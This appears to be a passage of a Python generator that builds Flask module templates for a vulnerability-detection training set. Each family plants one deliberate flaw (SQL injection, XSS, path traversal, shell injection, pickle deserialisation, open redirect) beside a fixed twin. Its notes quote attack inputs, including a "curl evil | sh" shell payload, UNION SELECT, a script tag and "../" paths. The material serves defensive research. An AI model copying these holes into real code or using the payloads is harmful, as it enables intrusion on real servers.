"""Train-only whole-module Flask families (libs8 set, mod8-*): realistic Flask modules of about 80-110
lines (blueprints, app factories, before_request hooks, flask-login) with exactly one weak statement each,
and a twin that differs only by the minimal fix. Common APIs, varied applications and taint paths.

Covers: a ticket-desk blueprint on psycopg2 whose repository class pastes one listing filter (read by a
helper into a dict) into the WHERE clause (89); a knowledge-base / catalogue search page whose highlight
helper builds its ``<mark>`` wrapper with ``Markup`` around an unescaped search term (79); an IoT gateway
whose before_request hook stores the ``X-Device-Id`` header in ``g`` and a later helper joins it to the
log root (22); a billing blueprint whose invoice-render class builds a wkhtmltopdf / pandoc command string
with the customer's reference and runs it through the shell (78); a booking wizard (flask-login) that
carries the draft between steps as a base64 pickle in a form field or resume link (502); and a newsletter
click tracker that redirects to the ``url`` of the query string (601).
Written without reading the held-out or validation families; every family here goes to train.
"""
from core import Spec, dedent
from module_kit import _replayed, _w, sub, _opt, _append
from registry import fam, hardneg


# ---------------- CWE-89: psycopg2 repository class with one filter pasted into the WHERE clause ----------------

_DESK = r'''
"""$W desk API (Flask blueprint + psycopg2): list, show and close $ws.

The blueprint is registered by the app factory, whose before_request hook authenticates the agent
(g.agent) for every route here; connections come from a pool created on first use and are handed
back when the request ends."""
from __future__ import annotations

import logging

from flask import Blueprint, abort, current_app, g, jsonify, request
from psycopg2.extras import RealDictCursor
from psycopg2.pool import ThreadedConnectionPool

log = logging.getLogger("$w.desk")

bp = Blueprint("$ws", __name__, url_prefix="/api/$ws")
PAGE_SIZE = $page
STATUSES = ("open", "pending", "resolved", "closed")
_pool: ThreadedConnectionPool | None = None


def get_conn():
    """The request's pooled connection."""
    global _pool
    if _pool is None:
        _pool = ThreadedConnectionPool(1, $maxconn, dsn=current_app.config["DATABASE_URL"])
    if "db" not in g:
        g.db = _pool.getconn()
    return g.db


@bp.teardown_app_request
def release_conn(exc: BaseException | None) -> None:
    conn = g.pop("db", None)
    if conn is not None and _pool is not None:
        _pool.putconn(conn)


def read_filters() -> dict[str, str]:
    """Listing filters from the query string; unknown keys are ignored."""
    filters: dict[str, str] = {}
    status = request.args.get("status", "open")
    if status in STATUSES:
        filters["status"] = status
$src
    if $x:
        filters["$col"] = $x
    return filters


class $Repo:
    """SQL for the $table table."""

    def __init__(self, conn) -> None:
        self.conn = conn

    def search(self, filters: dict[str, str], page: int = 0) -> list[dict]:
        clauses: list[str] = []
        params: list = []
        if "status" in filters:
            clauses.append("status = %s")
            params.append(filters["status"])
        if "$col" in filters:
$clause
        where = " AND ".join(clauses) or "TRUE"
        sql = f"SELECT id, subject, status, $col, updated_at FROM $table WHERE {where} ORDER BY updated_at DESC LIMIT %s OFFSET %s"
        params += [PAGE_SIZE, page * PAGE_SIZE]
        with self.conn.cursor(cursor_factory=RealDictCursor) as cur:
            cur.execute(sql, params)$mark
            return cur.fetchall()
$methods

@bp.get("")
def list_$ws():
    """One page of $ws matching the filters."""
    page = max(request.args.get("page", 0, type=int), 0)
    rows = $Repo(get_conn()).search(read_filters(), page)
    log.info("listed %d $ws (page %d)", len(rows), page)
    return jsonify(items=rows, page=page)


$extra
'''

_DESK_METHODS = {
    "get": r'''
    def get(self, item_id: int) -> dict | None:
        with self.conn.cursor(cursor_factory=RealDictCursor) as cur:
            cur.execute("SELECT * FROM $table WHERE id = %s", (item_id,))
            return cur.fetchone()
''',
    "close": r'''
    def close(self, item_id: int, by: str) -> bool:
        with self.conn.cursor() as cur:
            cur.execute("UPDATE $table SET status = 'closed', closed_by = %s WHERE id = %s", (by, item_id))
            self.conn.commit()
            return cur.rowcount == 1
''',
}

_DESK_ROUTES = {
    "get": r'''
@bp.get("/<int:item_id>")
def show_$w(item_id: int):
    """One $w by id."""
    row = $Repo(get_conn()).get(item_id)
    if row is None:
        abort(404)
    return jsonify(row)
''',
    "close": r'''
@bp.post("/<int:item_id>/close")
def close_$w(item_id: int):
    """Close a $w; the agent name comes from the authenticated request context."""
    if not $Repo(get_conn()).close(item_id, g.agent):
        abort(404)
    log.info("$w %d closed", item_id)
    return jsonify(closed=item_id)
''',
}


def _desk(c, safe):
    w, W = _w(c)
    col = c.pick("assignee", "queue", "label", "reporter", "team")
    x = c.pick(col, "wanted", f"{col}_filter")
    src = c.pick(f'    {x} = request.args.get("{col}", "").strip()  #@S',
                 f'    {x} = (request.args.get("{col}") or "").strip()  #@S',
                 f'    {x} = request.values.get("{col}", "", type=str)  #@S')
    shape = c.pick("fstring", "percent", "concat", "local")
    if safe:
        clause = f'            clauses.append("{col} = %s")\n            params.append(filters["{col}"])'
        mark = ""
    else:
        mark = "  #@V"
        if shape == "fstring":
            clause = f"            clauses.append(f\"{col} = '{{filters['{col}']}}'\")  #@V"
        elif shape == "percent":
            clause = f"            clauses.append(\"{col} = '%s'\" % filters[\"{col}\"])  #@V"
        elif shape == "concat":
            clause = f"            clauses.append(\"{col} = '\" + filters[\"{col}\"] + \"'\")  #@V"
        else:
            clause = (f'            value = filters["{col}"]\n'
                      f"            clauses.append(f\"{col} = '{{value}}'\")  #@V")
    if safe and shape == "local":
        clause = f'            value = filters["{col}"]\n            clauses.append("{col} = %s")\n            params.append(value)'
    keys = [k for k in ("get", "close") if c.rng.random() < 0.6] or [c.pick("get", "close")]
    methods = "".join("\n" + dedent(_DESK_METHODS[k]).strip("\n").replace("\n", "\n    ").join(["    ", ""]) + "\n"
                      for k in keys)
    extra = "\n\n\n".join(dedent(_DESK_ROUTES[k]).strip("\n") for k in keys)
    Repo = c.pick(f"{W}Repository", f"{W}Store", f"{W}Queries")
    return sub(_DESK, src=src, clause=clause, mark=mark, methods=methods, extra=extra, x=x, col=col, Repo=Repo,
               ws=f"{w}s", w=w, W=W, table=f"{w}s", page=c.pick(25, 50, 100), maxconn=c.pick(8, 10, 20))


@fam("mod8-flask-desk-repo-filter-sqli", "CWE-89", fws=["flask"], n=8, wrap=False)
def mod8_flask_desk_repo_filter_sqli(c):
    v, s = _replayed(c, _desk)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="read_filters() copies a query-string filter into a dict; the repository class later pastes "
                      "that value into the WHERE clause inside quotes, while every other value is a %s parameter. A "
                      "quote in the filter rewrites the query (OR 1=1, UNION SELECT from other tables). The fix adds "
                      "the clause with a %s placeholder and passes the value in params, like the status filter")


@hardneg(2)
def mod8_flask_desk_repo_filter_sqli_hn(c):
    s = _desk(c, True)
    s = _append(s, r'''
        SORT_COLUMNS = {"updated": "updated_at", "created": "created_at", "subject": "subject"}


        def export_rows(conn, status: str, sort: str = "updated") -> list[tuple]:
            """CSV export rows; the ORDER BY column comes from a fixed mapping, the status is bound."""
            column = SORT_COLUMNS.get(sort, "updated_at")
            with conn.cursor() as cur:
                cur.execute(f"SELECT id, subject, status FROM __T__ WHERE status = %s ORDER BY {column}", (status,))
                return cur.fetchall()
    ''')
    t = s.split("LIMIT %s OFFSET %s")[0].rsplit("FROM ", 1)[1].split(" ")[0]
    s = s.replace("__T__", t)
    return Spec(s=s, full=True, fw="flask",
                notes="every value is a psycopg2 %s parameter; only allow-listed column names are formatted in")


# ---------------- CWE-79: search highlight helper wraps the raw term in Markup ----------------

_HL = r'''
"""$Area search for the $w site (Flask app factory + sqlite3).

Results show the matching $ws with the search term highlighted; the page template escapes
everything except the values this module marks as safe."""
from __future__ import annotations

import logging
import sqlite3

from flask import Blueprint, Flask, current_app, g, render_template, request
from markupsafe import Markup, escape

log = logging.getLogger("$w.search")

bp = Blueprint("search", __name__)
MAX_RESULTS = $maxres
MIN_TERM = $minterm


def get_db() -> sqlite3.Connection:
    """The request's SQLite connection, rows as mappings."""
    if "db" not in g:
        g.db = sqlite3.connect(current_app.config["DATABASE"])
        g.db.row_factory = sqlite3.Row
    return g.db


def close_db(exc: BaseException | None = None) -> None:
    db = g.pop("db", None)
    if db is not None:
        db.close()


def _like_pattern(term: str) -> str:
    """A LIKE pattern that matches ``term`` literally."""
    escaped = term.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")
    return f"%{escaped}%"


$hlfilter
def highlight(text: str, term: str) -> Markup:
    """``text`` with every occurrence of ``term`` wrapped in <mark>."""
    if not term or term not in text:
        return escape(text)
$markline
    return mark.join(text.split(term))


def find(term: str) -> list[sqlite3.Row]:
    rows = get_db().execute(
        "SELECT id, title, summary FROM $table WHERE title LIKE ? ESCAPE '\\' OR summary LIKE ? ESCAPE '\\' "
        "ORDER BY title LIMIT ?",
        (_like_pattern(term), _like_pattern(term), MAX_RESULTS),
    ).fetchall()
    return rows


@bp.route("/search")
def search():
    """The results page."""
$src
    if len($x) < MIN_TERM:
        return render_template("search.html", $x=$x, results=[], too_short=True)
    rows = find($x)
    log.info("search %r: %d hits", $x, len(rows))
$render


$extra


def create_app(config: dict | None = None) -> Flask:
    """Application factory."""
    app = Flask(__name__)
    app.config.from_mapping(DATABASE="$dbpath")
    if config:
        app.config.update(config)
    app.teardown_appcontext(close_db)
    app.register_blueprint(bp)
    return app
'''

_HL_EXTRA = [r'''
@bp.route("/$ws/<int:item_id>")
def show(item_id: int):
    """One $w; the template escapes its fields."""
    row = get_db().execute("SELECT id, title, summary FROM $table WHERE id = ?", (item_id,)).fetchone()
    if row is None:
        return render_template("404.html"), 404
    return render_template("$w.html", item=row)
''', r'''
@bp.route("/search/suggest")
def suggest():
    """Title prefixes for the search box (JSON, no HTML)."""
    prefix = request.args.get("prefix", "")[:40]
    rows = get_db().execute("SELECT title FROM $table WHERE title LIKE ? ESCAPE '\\' LIMIT 8",
                            (prefix.replace("%", "\\%").replace("_", "\\_") + "%",)).fetchall()
    return {"suggestions": [r["title"] for r in rows]}
''', r'''
def excerpt(summary: str, limit: int = 160) -> str:
    """The first sentence of a summary, cut to ``limit`` characters."""
    first = summary.split(". ", 1)[0]
    return first if len(first) <= limit else first[: limit - 1].rstrip() + "\u2026"
''']


def _hl(c, safe):
    w, W = _w(c)
    area = c.pick("Knowledge-base", "Catalogue", "Course", "Help-centre", "Archive")
    x = c.pick("q", "term", "query_text", "needle")
    src = c.pick(f'    {x} = request.args.get("q", "").strip()  #@S',
                 f'    {x} = (request.args.get("q") or "")[:100].strip()  #@S')
    mode = c.pick("filter", "view")
    if mode == "filter":
        hlfilter = '@bp.app_template_filter("highlight")'
        render = f'    return render_template("search.html", {x}={x}, results=rows)'
    else:
        hlfilter = ""
        render = (f'    results = [{{"id": r["id"], "title": highlight(r["title"], {x}), '
                  f'"summary": highlight(r["summary"], {x})}} for r in rows]\n'
                  f'    return render_template("search.html", {x}={x}, results=results)')
    vshape = c.pick("fstring", "percent", "concat")
    sshape = c.pick("format", "percent")
    if safe:
        markline = ('    mark = Markup("<mark>{}</mark>").format(term)' if sshape == "format"
                    else '    mark = Markup("<mark>%s</mark>") % term')
    else:
        markline = {"fstring": '    mark = Markup(f"<mark>{term}</mark>")  #@V',
                    "percent": '    mark = Markup("<mark>%s</mark>" % term)  #@V',
                    "concat": '    mark = Markup("<mark>" + term + "</mark>")  #@V'}[vshape]
    extra = _opt(c, *_HL_EXTRA, least=1, most=3)
    t = _HL.replace("$hlfilter\n", hlfilter + "\n" if hlfilter else "")
    return sub(t, src=src, markline=markline, render=render, extra=extra, x=x, Area=area, ws=f"{w}s", w=w, W=W,
               table=f"{w}s", maxres=c.pick(20, 30, 50), minterm=c.pick(2, 3),
               dbpath=c.pick(f"instance/{w}.sqlite", f"/var/lib/{w}/search.db"))


@fam("mod8-flask-search-highlight-markup", "CWE-79", fws=["flask"], n=8, wrap=False)
def mod8_flask_search_highlight_markup(c):
    v, s = _replayed(c, _hl)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="highlight() returns Markup, which Jinja2 does not escape again; the text parts are escaped by "
                      "Markup.join, but the <mark> wrapper is built from the raw search term (f-string, % on the plain "
                      "str, or concatenation) before Markup is applied, so ?q=<script>...</script> is reflected as "
                      "HTML. The fix formats the term through Markup (Markup.format / Markup % term), which escapes it")


@hardneg(2)
def mod8_flask_search_highlight_markup_hn(c):
    s = _hl(c, True)
    s = _append(s, r'''
        def badge(label: str, tone: str = "info") -> Markup:
            """A status badge; the tone is from a fixed set and the label goes through Markup.format."""
            if tone not in {"info", "warning", "success"}:
                tone = "info"
            return Markup('<span class="badge badge-{}">{}</span>').format(tone, label)
    ''')
    return Spec(s=s, full=True, fw="flask",
                notes="Markup built only from constants, with user text inserted through Markup.format / % (escaped)")


# ---------------- CWE-22: device id header kept in g by before_request, joined to the log root ----------------

_IOT = r'''
"""$W gateway: devices push log chunks and readings over HTTPS (Flask).

Every request carries the fleet token and the device id; the hook below checks the token and
keeps the id in ``g`` for the views."""
from __future__ import annotations

import hmac
import logging
import os
$reimp
import time
from pathlib import Path

from flask import Flask, abort, g, jsonify, request

log = logging.getLogger("$w.gateway")

app = Flask(__name__)
app.config["MAX_CONTENT_LENGTH"] = $maxkb * 1024
LOG_ROOT = Path(os.environ.get("$ENV", "/var/lib/$w/device-logs"))
FLEET_TOKEN = os.environ["$TOKENENV"]
$pattern

@app.before_request
def identify_device() -> None:
    """Reject requests without the fleet token; remember which device is talking."""
    if request.endpoint == "health":
        return
    token = request.headers.get("Authorization", "").removeprefix("Bearer ")
    if not hmac.compare_digest(token.encode(), FLEET_TOKEN.encode()):
        abort(401)
    device_id = request.headers.get("X-Device-Id", "").strip()  #@S
    if not device_id:
        abort(400, description="X-Device-Id is required")
$guard
    g.device_id = device_id


def device_dir() -> Path:
    """The directory holding one device's log files."""
$dirline
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@app.post("/v1/logs")
def push_log():
    """Append a chunk of the device's log to today's file."""
    chunk = request.get_data()
    if not chunk:
        return jsonify(stored=0)
    name = time.strftime("%Y-%m-%d") + ".log"
$write
    log.debug("%d bytes of log from %s", len(chunk), g.device_id)
    return jsonify(stored=len(chunk))


$extra


@app.get("/health")
def health():
    return jsonify(status="ok", root_exists=LOG_ROOT.is_dir())
'''

_IOT_EXTRA = [r'''
@app.post("/v1/readings")
def push_readings():
    """Sensor readings, kept in memory until the next flush to the time-series store."""
    body = request.get_json(silent=True) or {}
    readings = [r for r in body.get("readings", []) if isinstance(r, dict) and "ts" in r and "value" in r]
    BUFFER.setdefault(g.device_id, []).extend(readings[:500])
    return jsonify(accepted=len(readings[:500]))


BUFFER: dict[str, list[dict]] = {}
''', r'''
@app.get("/v1/logs")
def list_logs():
    """The device's own log files, newest first."""
    files = sorted(device_dir().glob("*.log"), reverse=True)
    return jsonify(files=[{"name": p.name, "bytes": p.stat().st_size} for p in files[:30]])
''', r'''
def prune(max_age_days: int = $keep) -> int:
    """Delete log files older than the retention period (run from cron)."""
    cutoff = time.time() - max_age_days * 86400
    removed = 0
    for path in LOG_ROOT.glob("*/*.log"):
        if path.stat().st_mtime < cutoff:
            path.unlink(missing_ok=True)
            removed += 1
    log.info("pruned %d device log files", removed)
    return removed
''']


def _iot(c, safe):
    w, W = _w(c)
    fix = c.pick("regex", "regex", "resolve")
    wshape = c.pick("pathlib", "open")
    reimp = "import re" if fix == "regex" and safe else ""
    pattern = ('DEVICE_ID = re.compile(r"[A-Za-z0-9_-]{4,64}")\n' if fix == "regex" and safe else "")
    guard = ""
    dirline = "    folder = LOG_ROOT / g.device_id" + ("" if safe else "  #@V")
    if safe and fix == "regex":
        guard = '    if not DEVICE_ID.fullmatch(device_id):\n        abort(400, description="malformed device id")'
    if safe and fix == "resolve":
        dirline = ("    folder = (LOG_ROOT / g.device_id).resolve()\n"
                   "    if folder.parent != LOG_ROOT.resolve():\n"
                   "        abort(400, description=\"malformed device id\")")
    m = "" if safe else "  #@V"
    if wshape == "pathlib":
        write = f'    with (device_dir() / name).open("ab") as fh:{m}\n        fh.write(chunk)'
    else:
        write = f'    with open(os.path.join(device_dir(), name), "ab") as fh:{m}\n        fh.write(chunk)'
    extra = _opt(c, *_IOT_EXTRA, least=1, most=3)
    t = _IOT.replace("$reimp\n", reimp + "\n" if reimp else "").replace("$guard\n", guard + "\n" if guard else "")
    return sub(t, pattern=pattern, dirline=dirline, write=write, extra=extra, w=w, W=W,
               ENV=f"{w.upper()}_LOG_ROOT", TOKENENV=c.pick("FLEET_TOKEN", f"{w.upper()}_FLEET_TOKEN"),
               maxkb=c.pick(256, 512, 1024), keep=c.pick(14, 30, 90))


@fam("mod8-flask-device-header-log-dir", "CWE-22", fws=["flask"], n=8, wrap=False)
def mod8_flask_device_header_log_dir(c):
    v, s = _replayed(c, _iot)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="the before_request hook takes the X-Device-Id header as sent (the fleet token is shared, so it "
                      "does not bind the id) and keeps it in g; device_dir() joins it to the log root, so an id like "
                      "'../../etc/cron.d' or an absolute path makes the log writes land outside it. The fix accepts "
                      "only plain ids (a strict pattern in the hook), or resolves the folder and requires it to be a "
                      "direct child of the root")


@hardneg(2)
def mod8_flask_device_header_log_dir_hn(c):
    s = _iot(c, True)
    s = _append(s, r'''
        def read_tail(name: str, limit: int = 4096) -> bytes:
            """The end of one of the device's own files; the name is reduced to its last component."""
            path = device_dir() / Path(name).name
            if path.suffix != ".log" or not path.is_file():
                abort(404)
            with open(path, "rb") as fh:
                fh.seek(max(path.stat().st_size - limit, 0))
                return fh.read()
    ''')
    return Spec(s=s, full=True, fw="flask",
                notes="device ids validated before they are joined; file names reduced to their last component")


# ---------------- CWE-78: invoice render class builds a shell command string ----------------

_PDF = r'''
"""Invoice PDFs for the $w billing blueprint (Flask + flask-login).

Invoices are rendered to HTML by Jinja, then converted to PDF by an external tool; the
customer may add their own purchase-order reference, which is printed in the document title."""
from __future__ import annotations

import logging
import subprocess
$shleximp
from dataclasses import dataclass
from pathlib import Path

from flask import Blueprint, abort, current_app, jsonify, render_template, request
from flask_login import current_user, login_required

log = logging.getLogger("$w.billing")

bp = Blueprint("billing", __name__, url_prefix="/billing")
TIMEOUT = $timeout


class ConversionError(RuntimeError):
    """The converter exited with an error."""


@bp.errorhandler(ConversionError)
def conversion_failed(exc: ConversionError):
    return jsonify(error="the PDF could not be generated, try again later"), 502


@dataclass
class InvoiceRender:
    """One conversion of a rendered invoice page to PDF."""

    number: str
    reference: str
    html_path: Path
    pdf_path: Path

    def command(self):
        """The converter invocation."""
$cmdline

    def run(self) -> Path:
$runline
        if proc.returncode != 0:
            log.error("$tool failed for %s: %s", self.number, proc.stderr[-500:])
            raise ConversionError(f"$tool exited with {proc.returncode}")
        return self.pdf_path


def _output_dir() -> Path:
    out = Path(current_app.config.get("INVOICE_DIR", "/var/lib/$w/invoices"))
    out.mkdir(parents=True, exist_ok=True)
    return out


def _load_invoice(number: str) -> dict:
    """The invoice, if it belongs to the logged-in customer."""
    invoice = current_app.extensions["billing_store"].get(number)
    if invoice is None or invoice["customer_id"] != current_user.id:
        abort(404)
    return invoice


@bp.post("/invoices/<number>/pdf")
@login_required
def make_pdf(number: str):
    """Render the invoice as PDF with the customer's reference in the title."""
    invoice = _load_invoice(number)
$src
    out = _output_dir()
    html_path = out / f"{invoice['number']}.html"
    html_path.write_text(render_template("invoice.html", invoice=invoice, reference=$x), encoding="utf-8")
    job = InvoiceRender(invoice["number"], $x, html_path, out / f"{invoice['number']}.pdf")
    pdf = job.run()
    log.info("invoice %s rendered for customer %s", number, current_user.id)
    return jsonify(pdf=pdf.name)


$extra
'''

_PDF_EXTRA = [r'''
@bp.get("/invoices")
@login_required
def list_invoices():
    """The customer's invoices, newest first."""
    store = current_app.extensions["billing_store"]
    items = sorted(store.for_customer(current_user.id), key=lambda i: i["issued"], reverse=True)
    return jsonify(invoices=[{"number": i["number"], "total": i["total"]} for i in items])
''', r'''
def converter_version() -> str:
    """The converter's version, for the admin status page (fixed arguments)."""
    proc = subprocess.run(["$tool", "--version"], capture_output=True, text=True, timeout=10)
    return proc.stdout.strip() or "unknown"
''', r'''
@bp.delete("/invoices/<number>/pdf")
@login_required
def discard_pdf(number: str):
    """Remove a generated PDF so the next download renders it again."""
    invoice = _load_invoice(number)
    (_output_dir() / f"{invoice['number']}.pdf").unlink(missing_ok=True)
    return jsonify(removed=number)
''']


def _pdf(c, safe):
    w, W = _w(c)
    tool = c.pick("wkhtmltopdf", "pandoc")
    x = c.pick("reference", "po_ref", "customer_ref")
    src = c.pick(f'    {x} = request.form.get("reference", "").strip()[:80]  #@S',
                 f'    {x} = (request.get_json(silent=True) or {{}}).get("reference", "")  #@S')
    runner = c.pick("run", "run_text")
    quoted = c.pick(True, False)
    if tool == "wkhtmltopdf":
        title = 'Invoice {self.number} {self.reference}'
        # R37: both variants single-quote the title (a double-quoted wrap is the shape of a held-out family)
        vcmd = (f'f"wkhtmltopdf --title \'{title}\' --quiet {{self.html_path}} {{self.pdf_path}}"' if quoted
                else f'f"wkhtmltopdf --quiet --title \'{title}\' {{self.html_path}} {{self.pdf_path}}"')
        scmd = (f'["wkhtmltopdf", "--title", f"{title}", "--quiet", ' if quoted
                else f'["wkhtmltopdf", "--quiet", "--title", f"{title}", ') + 'str(self.html_path), str(self.pdf_path)]'
    else:
        title = 'Invoice {self.number} {self.reference}'
        vcmd = (f'f"pandoc {{self.html_path}} -o {{self.pdf_path}} -M \'title={title}\'"' if quoted
                else f'f"pandoc {{self.html_path}} -o {{self.pdf_path}} --metadata \'title={title}\'"')
        scmd = (f'["pandoc", str(self.html_path), "-o", str(self.pdf_path), '
                + (f'"-M", f"title={title}"]' if quoted else f'f"--metadata=title:{title}"]'))
    cap = "capture_output=True, text=True" if runner == "run_text" else "stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True"
    if safe:
        cmdline = f"        return {scmd}"
        runline = f"        proc = subprocess.run(self.command(), {cap}, timeout=TIMEOUT)"
    else:
        cmdline = f"        return {vcmd}  #@V"
        runline = f"        proc = subprocess.run(self.command(), shell=True, {cap}, timeout=TIMEOUT)  #@V"
    extra = _opt(c, *_PDF_EXTRA, least=1, most=3)
    t = _PDF.replace("$shleximp\n", "")
    return sub(t, cmdline=cmdline, runline=runline, src=src, extra=extra, tool=tool, x=x, w=w, W=W,
               timeout=c.pick(30, 60, 120))


@fam("mod8-flask-invoice-pdf-shell-title", "CWE-78", fws=["flask"], n=8, wrap=False)
def mod8_flask_invoice_pdf_shell_title(c):
    v, s = _replayed(c, _pdf)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="InvoiceRender.command() formats the customer's purchase-order reference into a command "
                      "string inside single quotes, and run() hands it to /bin/sh (shell=True); a reference containing a "
                      "single quote closes the quoting (x'; curl evil | sh; ') and runs commands on the billing server. The fix returns an argument "
                      "list (the title is one argv entry) and runs it without a shell")


@hardneg(2)
def mod8_flask_invoice_pdf_shell_title_hn(c):
    s = _pdf(c, True)
    s = _append(s, r'''
        def merge_pdfs(parts: list[Path], target: Path) -> Path:
            """Concatenate statement pages with qpdf; every path is its own argument, no shell."""
            cmd = ["qpdf", "--empty", "--pages", *[str(p) for p in parts], "--", str(target)]
            subprocess.run(cmd, check=True, capture_output=True, timeout=TIMEOUT)
            return target
    ''')
    return Spec(s=s, full=True, fw="flask", notes="converters run from argument lists without a shell")


# ---------------- CWE-502: booking wizard draft carried as a base64 pickle ----------------

_WIZ = r'''
"""$W booking wizard (Flask + flask-login): pick a slot, add guests, confirm.

Nothing is stored until the last step: the draft travels with the user, $carrier."""
from __future__ import annotations

import base64
$serimp_a
import logging
$serimp_b
from datetime import date

from flask import Blueprint, abort, jsonify, render_template, request, url_for
from flask_login import current_user, login_required

log = logging.getLogger("$w.booking")

bp = Blueprint("booking", __name__, url_prefix="/book")
MAX_GUESTS = $maxguests
ROOMS = $rooms


def encode_draft(draft: dict) -> str:
    """The draft as a URL-safe token."""
$encline


def decode_draft(token: str) -> dict:
    """The draft back from its token."""
    try:
$decline
    except ValueError:
        abort(400, description="draft is corrupt")
    if not isinstance(draft, dict):
        abort(400, description="draft is corrupt")
    return draft


def _validate(draft: dict) -> list[str]:
    """What is wrong with the draft, in words for the form."""
    problems = []
    if draft.get("room") not in ROOMS:
        problems.append("choose a room")
    if not 1 <= int(draft.get("guests", 0)) <= MAX_GUESTS:
        problems.append(f"between 1 and {MAX_GUESTS} guests")
    if draft.get("day", "") < date.today().isoformat():
        problems.append("the day is in the past")
    return problems


@bp.post("/slot")
@login_required
def choose_slot():
    """Step 1: room and day."""
    draft = {"user": current_user.id, "room": request.form.get("room", ""), "day": request.form.get("day", ""),
             "guests": 1}
    return render_template("booking/guests.html", draft=encode_draft(draft), rooms=ROOMS)


@bp.$method($route)
@login_required
def guests():
    """Step 2: the guest count; the page shows a summary before confirming."""
$src
    draft = decode_draft($x)
    if draft.get("user") != current_user.id:
        abort(403)
    draft["guests"] = request.values.get("guests", draft.get("guests", 1), type=int)
    problems = _validate(draft)
    if problems:
        return render_template("booking/guests.html", draft=encode_draft(draft), problems=problems), 422
    log.info("draft for %s: %s on %s", current_user.id, draft["room"], draft["day"])
    return render_template("booking/confirm.html", draft=encode_draft(draft), summary=draft)


$extra
'''

_WIZ_EXTRA = [r'''
@bp.get("/rooms")
def rooms():
    """The bookable rooms and the guest limit."""
    return jsonify(rooms=list(ROOMS), max_guests=MAX_GUESTS)
''', r'''
def resume_link(draft: dict) -> str:
    """A link that reopens the wizard at step 2 (sent in the reminder e-mail)."""
    return url_for("booking.guests", draft=encode_draft(draft), _external=True)
''', r'''
@bp.get("/mine")
@login_required
def my_bookings():
    """The user's confirmed bookings."""
    store = BOOKINGS.get(current_user.id, [])
    return jsonify(bookings=store[-20:])


BOOKINGS: dict[int, list[dict]] = {}
''']


def _wiz(c, safe):
    w, W = _w(c)
    carrier = c.pick("form", "link")
    if carrier == "form":
        method, route, desc = "post", '"/guests"', "in a hidden form field between the steps"
        src = c.pick('    token = request.form["draft"]  #@S', '    token = request.form.get("draft", "")  #@S')
    else:
        method, route, desc = "route", '"/guests", methods=["GET", "POST"]', "in a hidden field or a resume link"
        src = c.pick('    token = request.values.get("draft", "")  #@S', '    token = request.args.get("draft") or request.form.get("draft", "")  #@S')
    b64 = c.pick("urlsafe", "plain")
    enc_b = "base64.urlsafe_b64encode" if b64 == "urlsafe" else "base64.b64encode"
    dec_b = "base64.urlsafe_b64decode" if b64 == "urlsafe" else "base64.b64decode"
    if safe:
        serimp = "import json"
        encline = f'    return {enc_b}(json.dumps(draft, separators=(",", ":")).encode()).decode("ascii")'
        decline = f"        draft = json.loads({dec_b}(token.encode()))"
    else:
        serimp = "import pickle"
        encline = f'    return {enc_b}(pickle.dumps(draft)).decode("ascii")'
        decline = f"        draft = pickle.loads({dec_b}(token.encode()))  #@V"
    if not safe and c.pick(True, False):
        decline = f"        raw = {dec_b}(token.encode())\n        draft = pickle.loads(raw)  #@V"
    elif safe and c.pick(True, False):
        decline = f"        raw = {dec_b}(token.encode())\n        draft = json.loads(raw)"
    rooms = c.pick('("garden", "harbour", "loft", "studio")', '("A1", "A2", "B1", "B2", "C1")',
                   '("court-1", "court-2", "court-3")')
    t = _WIZ.replace("$serimp_a\n", serimp + "\n" if safe else "").replace("$serimp_b\n", "" if safe else serimp + "\n")
    blocks = _WIZ_EXTRA if carrier == "link" else _WIZ_EXTRA[:1] + _WIZ_EXTRA[2:]
    extra = _opt(c, *blocks, least=1, most=len(blocks))
    return sub(t, encline=encline, decline=decline, src=src, extra=extra, method=method, route=route,
               carrier=desc, x="token", w=w, W=W, maxguests=c.pick(6, 8, 12), rooms=rooms)


@fam("mod8-flask-booking-wizard-pickle-draft", "CWE-502", fws=["flask"], n=8, wrap=False)
def mod8_flask_booking_wizard_pickle_draft(c):
    v, s = _replayed(c, _wiz)
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="the wizard draft is pickled and base64-encoded into the page (hidden field / resume link) and "
                      "unpickled from the request at the next step; the client controls those bytes, and pickle.loads "
                      "of a crafted payload (__reduce__ -> os.system) runs code before any check on the result. The "
                      "fix carries the draft as JSON, which only yields plain data (the other checks stay)")


@hardneg(2)
def mod8_flask_booking_wizard_pickle_draft_hn(c):
    s = _wiz(c, True)
    s = _append(s, r'''
        def load_room_notes(path: str) -> dict:
            """Room descriptions maintained by the front desk (YAML on the server), plain data only."""
            with open(path, encoding="utf-8") as fh:
                notes = yaml.safe_load(fh) or {}
            return {str(k): str(v) for k, v in notes.items()}
    ''')
    s = s.replace("\nfrom flask import", "\nimport yaml\nfrom flask import", 1)
    return Spec(s=s, full=True, fw="flask", notes="client-carried state encoded as base64 JSON, never pickle; server-side YAML read with safe_load")


# ---------------- CWE-601: newsletter click tracker redirects to the query's url ----------------

_CLICK = r'''
"""Click tracking for the $w newsletter (Flask + sqlite3).

Every link in a campaign e-mail points at /c/<campaign>/<recipient>?url=<original link>; the view
records the click and forwards the reader to the link."""
from __future__ import annotations

import logging
import sqlite3
from datetime import datetime, timezone
$urlimp

from flask import Flask, abort, g, jsonify, redirect, request

log = logging.getLogger("$w.clicks")

app = Flask(__name__)
app.config.from_mapping(DATABASE="$dbpath")
$hosts

def db() -> sqlite3.Connection:
    if "db" not in g:
        g.db = sqlite3.connect(app.config["DATABASE"])
    return g.db


@app.teardown_appcontext
def close_db(exc: BaseException | None) -> None:
    conn = g.pop("db", None)
    if conn is not None:
        conn.close()


def campaign_links(campaign: str) -> set[str]:
    """The links the campaign was sent with."""
    rows = db().execute("SELECT url FROM campaign_links WHERE campaign = ?", (campaign,)).fetchall()
    return {r[0] for r in rows}


def campaign_sent(campaign: str) -> bool:
    row = db().execute("SELECT 1 FROM campaigns WHERE slug = ? AND sent_at IS NOT NULL", (campaign,)).fetchone()
    return row is not None


@app.get("/c/<campaign>/links")
def links(campaign: str):
    """The tracked links of a campaign, for the editor's preview."""
    return jsonify(links=sorted(campaign_links(campaign)))


def record_click(campaign: str, recipient: str, url: str) -> None:
    db().execute(
